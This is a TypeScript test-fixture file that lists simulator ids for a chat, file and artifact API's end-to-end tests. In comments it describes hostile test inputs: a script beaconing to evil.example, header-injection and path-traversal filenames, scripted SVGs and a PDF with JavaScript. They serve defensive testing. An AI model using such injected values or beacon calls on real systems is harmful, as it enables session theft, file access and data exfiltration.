// Every simulator id a test writes down instead of reading it from the running simulator's `fixtures`
// (lib/simulator/dataset/fixtures.ts): the small dataset's (seed 1), which the end-to-end stack serves
// and vitest tables need before their simulator has started, and ids that no dataset has.

/** Real ids of the e2e stack's simulator (the `small` dataset, seed 1): lib/simulator/dataset/fixtures.ts names them. */
export const SMALL_SEED_1 = {
  organization: "2e3aebe1-3b2e-452a-b92f-065e774149b0",
  user: "user_01Ad2FaAzn9ZnvmrK4M34y8S",
  chat: "claude_chat_019sjiLGNQZVRmMXQC6tpfVs",
  /** The chat's first message and its time as the API writes it. */
  chatFirstMessage: { id: "claude_chat_msg_01Tt1tcTMegTBJEve9kUwM1m", createdAt: "2026-08-21T00:00:00.101010Z" },
  softDeletedChat: "claude_chat_01M5i47wzF71ghUXczsLMbSa",
  project: "claude_proj_01DMbPsPSc1aPz1WVi3G4y32",
} as const;

/** A Claude Code artifact of the same dataset and its newest version (fixtures codeArtifact). */
export const SMALL_SEED_1_CODE_ARTIFACT = { id: "cart_012a6c7XumfnqkcPNDQxFCx8", versionId: "1783920999-8fc4" } as const;

/** Sessions of the same dataset (fixtures localSession, localSessionNotCaptured, remoteSessionActive, remoteSessionPending, remoteSessionAgentOwned). */
export const SMALL_SEED_1_SESSIONS = {
  local: "clls_01KR5BFStayJMcpPbwYvcUa5",
  localNotCaptured: "clls_01BqxLnkZa7ALPBv5t6TbKpo",
  remoteActive: "cse_01KHRYnCKoFm99LA1Uw2sYbX",
  remotePending: "cse_01YCMjJrHsQTjzqHPhYREmG3",
  remoteAgentOwned: "cse_01XULamRTDJ8ArePJdwCK6Hz",
} as const;

/** Artifacts and project documents of the same dataset (fixtures artifactsChat, projectDocument, hostileChat, hostileProject). */
export const SMALL_SEED_1_ARTIFACTS = {
  chat: "claude_chat_01Wm1b4FV9tNWdUzyECskQ3M",
  /** Versions of each artifact, oldest first. */
  markdown: [
    "claude_artifact_version_01491X8oU5paoirM2LQAk5JS",
    "claude_artifact_version_01Af1Amsqdb3ZyfRWrkphEmS",
    "claude_artifact_version_01RTVVK3rbn2J7uYCmw4NpwT",
  ],
  code: ["claude_artifact_version_016jNva5PTbxq3h9ohZzTqxq", "claude_artifact_version_018DwyyPVn5UmLznPb7NPS3R"],
  /** The second version has a <script> that sets the title and calls fetch("https://evil.example/beacon"). */
  html: ["claude_artifact_version_01MNe24cTtmEuQPgEGVN433G", "claude_artifact_version_01ER11T9BABoAnvR7JDGwhXm"],
  svg: ["claude_artifact_version_016aAFgQwGQfYecFVDnnrmDd"],
  react: ["claude_artifact_version_0128oFiuaYR2GgRQFDETgzkk", "claude_artifact_version_01KAga4f5HeHbTtiNz5zQ4aD"],
  /** The hostile chat's HTML artifact: a script, an <img onerror> and a full-page iframe to evil.example. */
  hostileHtml: "claude_artifact_version_01Vgx8wANnnBTR1HwZ7P7Cf5",
  /** The project of `projectDocument` (fixtures projectWithoutChats). */
  documentsProject: "claude_proj_01H1zhE5yZheYDdHMUtETo9J",
  projectDocument: "claude_proj_doc_01LJGeFAo18kxMMuL9JZorVA",
  /** The hostile project's document: markup in its file name and in its text. */
  hostileDocument: "claude_proj_doc_011DArxgPjBxbBkEd7cUg93s",
} as const;

/** Uploaded and generated files of the small dataset (seed 1), by type. */
export const SMALL_SEED_1_FILES = {
  /** The chat with uploads of every type (fixtures filesChat). */
  chat: "claude_chat_01HwqSCVf9G3S9f4zHvrrQSZ",
  files: { csv: "claude_file_01TWmgVmynKGwzhkBMDZdgas", png: "claude_file_01Y5jDQvo4wF82cidCLc1ptT" },
  /** Every upload of the files and hostile chats, by what it tests. */
  uploads: {
    pdf: "claude_file_01DYoQE77NBBWjmVjkmiWKz1",
    png: "claude_file_01Y5jDQvo4wF82cidCLc1ptT",
    csv: "claude_file_01TWmgVmynKGwzhkBMDZdgas",
    docx: "claude_file_01QYTrK7HZQagFz35JskhY43",
    txt: "claude_file_01WzwA8Ajxe3eTSJUWGVjnMA",
    json: "claude_file_01U4wRWvLWzoue9EzdGTahAi",
    md: "claude_file_01Xqd6kpJCpvrXTjfKEVTgBJ",
    svg: "claude_file_01V7jockhtdUrYB4dVh4j8LM",
    chineseCsv: "claude_file_01EjdD43WaeRzaKnMmw4AnLH",
    hebrewDocx: "claude_file_01XroNeuNiBhKyvTEYoStkK8",
    emojiPng: "claude_file_015Ad8t87CjX1Xy9cNpHASk9",
    quotedPdf: "claude_file_0159HQnRJsm8iM1XkiF6uzKt",
    scriptTxt: "claude_file_01HgmnNqCoxSAYZ91CFtm7KG",
    bidiExe: "claude_file_014EcaCa23aYTZmY7d5jyNaM",
    hostileSvg: "claude_file_01Aktk5k1CyXBuS86z1xHppg",
    encodedCsv: "claude_file_01ATjXrTrMQjeNmWndJ87Q5Q",
    pathTraversal: "claude_file_012qP1TfAAPeq35cBVZDimtN",
  },
  generatedFiles: {
    csv: "claude_gen_file_01UQcnAQFJ1reUb6HM26mJZQ",
    png: "claude_gen_file_01ReFXsZb9Hv149CTNid6etq",
    /** A generated file whose bytes the API no longer serves (fixtures expiredGeneratedFile). */
    expired: "claude_gen_file_01KxScc4xzVNu9GKWkjN1aNg",
  },
} as const;

/** Chats and projects the deletion tests destroy, one per test, so none finds another's request open. */
export const SMALL_SEED_1_DELETIONS = {
  chats: {
    fourEyes: { id: "claude_chat_01W612Xfart8oBa3F8icx7XF", name: "Refactor auth middleware" },
    ownRequest: { id: "claude_chat_01VNmjmFoY3h99u1tw7a32E9", name: "Patent prior-art search" },
    rejected: { id: "claude_chat_01TgrGF8iCu8h45fWy4RGXGf", name: "Pricing page A/B test ideas" },
    held: { id: "claude_chat_014FmzvALn3VX2RoL1uzUAH6", name: "Translate contract clause 7.2" },
    typedGate: { id: "claude_chat_012GPdvpWdrYCMvX4pP9SoEc", name: "ترجمة العقد إلى العربية" },
  },
  /** A project with one chat and two documents. */
  projectWithAChat: { id: "claude_proj_013JkUmCwrQvcVshSa43AeVF", name: "Vendor Due Diligence" },
  /** A project with one chat ("Draft NDA review") and no attachments. */
  projectRefused: { id: "claude_proj_014QTNytTj8w1KQpLgYZ12DS", name: "契約レビュー", chatId: "claude_chat_01TAjyFnnZLZ1heZf4DU4FuV" },
} as const;

/** What the legal-hold tests place holds on. */
export const SMALL_SEED_1_HOLDS = {
  custodian: { id: "user_014Gadjmx9tPCWuis2Exad4z", email: "lars.ivanova@acme-corp.example" },
  chat: "claude_chat_01ACN34be5psBbJC9Um17cNB",
  project: "claude_proj_01H1zhE5yZheYDdHMUtETo9J",
} as const;

/** The 10,000-message chat (fixtures longChat). */
export const SMALL_SEED_1_LONG_CHAT = "claude_chat_015qvvhZX3oKjThoMJRKqSq4";

/** Well-formed as the API writes ids (base58), so Docket asks the API, yet no dataset has it: the API answers 404. */
export const UNKNOWN_CHAT = "claude_chat_01AAAAAAAAAAAAAAAAAAAAAA";

/** The preview corpus chat of the same dataset (fixtures previewCorpus): each upload by what it tests. */
export const SMALL_SEED_1_PREVIEW_CORPUS = {
  chat: "claude_chat_01W9rHrQThVXjf5tYss9wQs3",
  files: {
    /** "minutes\r\nSet-Cookie: docket_session=stolen.txt" */
    lineBreak: "claude_file_01PJ1EBfSwHQCa1iWVr674as",
    /** "contract\u200F (signed).pdf" */
    rightToLeftMark: "claude_file_01R6aaZk92ATAnSniVJjadNc",
    /** 255 UTF-8 bytes of emoji and CJK, ending ".txt" */
    maxLength: "claude_file_01DWd6LJ521du89E5eqdkjKW",
    /** "../../../var/log/../audit.csv" */
    parentPath: "claude_file_011Urfnyd8mZXVgPYG76EeMp",
    /** "board minutes.txt." */
    trailingDot: "claude_file_01RDuytaji2HEGfPbKX1NH3p",
    /** "budget 2026.csv " */
    trailingSpace: "claude_file_01U3rPymNXqnEzP8qFWr61GU",
    /** text/html with a <script> and an onerror handler */
    html: "claude_file_01LMjAtSwdHU7kHhGXSpB8KR",
    jpeg: "claude_file_019pwoDRhVQ8XJD9WF5CW3TC",
    gif: "claude_file_014QWa52qAJG7u1LWEsXR8Hi",
    webp: "claude_file_01DEECEaL6XgqLKyUYTMe4Pm",
    /** text/plain past the 256 KiB text preview */
    longText: "claude_file_011PXLcyq1CipyxneUqbt12A",
    /** a PDF whose catalog has a JavaScript OpenAction */
    pdfWithJavaScript: "claude_file_014yLFA4c2gtdwqZmTp3MGch",
  },
  /** An SVG with a <script>, onload/onclick/onmouseover handlers and a javascript: link. */
  scriptedSvgArtifact: ["claude_artifact_version_017RGaGk1jbcisAig641r2iv"],
  /** Code of 30,003 lines and 2.5 MiB, in two versions (oldest first). */
  largeCodeArtifact: ["claude_artifact_version_01TKHHRSZi4RC67LsyfFoMmU", "claude_artifact_version_016JiqriJrHV1ifYAr9Ho3Nr"],
} as const;

/**
 * Well-formed ids of objects that no dataset has, for the API's answers about unknown objects. No seed
 * can generate the tagged ones: a generated id is `<prefix>01` then 22 base58 characters, never a "0".
 */
export const ABSENT = {
  organization: "ce86b5f3-7c16-48b3-a9f3-e1d2c4b8a0f1",
  chat: "claude_chat_01NoSuchChat000000000000",
  file: "claude_file_01NoSuchFile000000000000",
  project: "claude_proj_01NoSuchProject00000000000",
  projectDocument: "claude_proj_doc_01NoSuchDoc00000000000",
  artifactVersion: "claude_artifact_version_01NoSuchVersion0000000000",
  role: "rbac_role_01NoSuchRole0000000000",
  group: "rbac_group_01NoSuchGroup0000000000",
  localSession: "clls_01NoSuchSession0000000000",
  remoteSession: "cse_01NoSuchSession0000000000",
  activity: "activity_invalid123",
} as const;

/** One of as many distinct user ids as a test needs, each well-formed and none a dataset's user. */
export const absentUser = (index: number): string => `user_01NoChats${index}xxxxxxxxxxxxxxx`;
